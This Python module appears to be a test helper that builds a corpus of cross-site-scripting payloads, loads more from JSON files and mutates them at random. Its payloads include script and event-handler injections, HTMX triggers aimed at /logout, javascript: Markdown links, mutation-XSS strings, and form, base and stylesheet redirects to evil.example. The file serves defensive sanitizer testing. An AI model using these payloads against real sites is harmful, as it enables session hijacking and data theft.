"""Texts that want to be more than text: corpora where they are, vectors of our own, and a generator of more."""

import json
import os
import random
from functools import lru_cache
from pathlib import Path

from store.settings import PROJECT_ROOT

#: What is particular to us: HTMX, behaviours of our own script, names that scripts look for, old and odd schemes.
OWN = (
    "<script>window.__hostile=1</script>",
    "<img src=x onerror=window.__hostile=1>",
    '"><svg onload=window.__hostile=1>',
    "'><details open ontoggle=window.__hostile=1>",
    "</textarea></title></style></script></select><script>window.__hostile=1</script>",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>',
    '<p hx-on:click="window.__hostile=1" hx-on::load="window.__hostile=1">x</p>',
    '<a href="#" data-theme-switch data-copy-text="x" data-confirm="x">x</a>',
    '<form id="stars" action="https://evil.example"><input name="csrf_token"><button formaction="//evil.example">x</button></form>',
    '<img name="body" id="main"><a id="location" name="documentElement"></a>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css"><style>@import "//evil.example"</style>',
    '<p style="background:url(//evil.example/x)" class="note is-ok">x</p>',
    '<svg><a xlink:href="javascript:window.__hostile=1"><text y="9">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile=1&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.__hostile=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.__hostile=1>">',
    "<iframe srcdoc='<script>parent.__hostile=1</script>'></iframe>",
    "[x](javascript:window.__hostile=1)",
    "[x](java&#x73;cript:window.__hostile=1)",
    "[x](java\tscript:window.__hostile=1)",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:window.__hostile=1)",
    "[x](vbscript:msgbox(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:window.__hostile=1>",
    '[x](https://a.example "\\" onmouseover=\\"window.__hostile=1")',
    '![x](x" onerror="window.__hostile=1)',
    "[x]: javascript:window.__hostile=1\n\n[x]",
    # A host and its port, to whoever looks no closer.
    "[x](javascript:123)",
    "```\n</code></pre><script>window.__hostile=1</script>\n```",
    '|<img src=x onerror=window.__hostile=1>|b|\n|-|-|\n|"><script>|`</code><script>`|',
    "\x1b[31m<img src=x onerror=window.__hostile=1>\x1b[0m<scr\x1b[1mipt>window.__hostile=1</script>",
    "\x1b]8;;javascript:window.__hostile=1\x07link\x1b]8;;\x07",
    "<scr\x00ipt>window.__hostile=1</scr\ud800ipt>\u202e<b>",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;window.__hostile=1&lt;/script&gt; &amp;lt;img onerror&amp;gt;",
    "<!--><img src=x onerror=window.__hostile=1>--> <![CDATA[<script>]]> <?xml-stylesheet?>",
    '=HYPERLINK("https://evil.example")',
    "\u2028window.__hostile=1\u2029</script>",
)

#: Of each vector so many others are made.
MADE_OF_EACH = 1
_INSERTED = (
    '"',
    "'",
    "<",
    ">",
    "`",
    "\x00",
    "\t",
    "\n",
    "&#x",
    "]]>",
    "-->",
    "</",
    "/",
    "=",
    "*",
    "[",
    "](",
    "|",
    "\\",
)


@lru_cache
def hostile_texts() -> tuple[str, ...]:
    texts = [*OWN, *_corpora()]
    chance = random.Random(13)
    for text in tuple(texts):
        texts += [_mutated(text, chance, texts) for _ in range(MADE_OF_EACH)]
    return tuple(dict.fromkeys(texts))


def _corpora() -> list[str]:
    folder = Path(os.environ.get("ERRAND_XSS", PROJECT_ROOT.parent / "shared" / "xss"))
    vectors = [
        vector["payload"]
        for path in sorted(folder.glob("*.json"))
        for vector in json.loads(path.read_text("utf-8"))["vectors"]
    ]
    if not vectors:
        print("NO XSS CORPORA to read: only our own vectors and what is made of them.")
    return vectors


def _mutated(text: str, chance: random.Random, others: list[str]) -> str:
    """Cut it, put something in, or have another one go on in its middle."""
    place = chance.randrange(len(text) + 1)
    match chance.randrange(3):
        case 0:
            return text[:place] + chance.choice(_INSERTED) + text[place:]
        case 1:
            return text[:place] + chance.choice(others) + text[place:]
    return "".join(each.swapcase() if chance.random() < 0.3 else each for each in text)
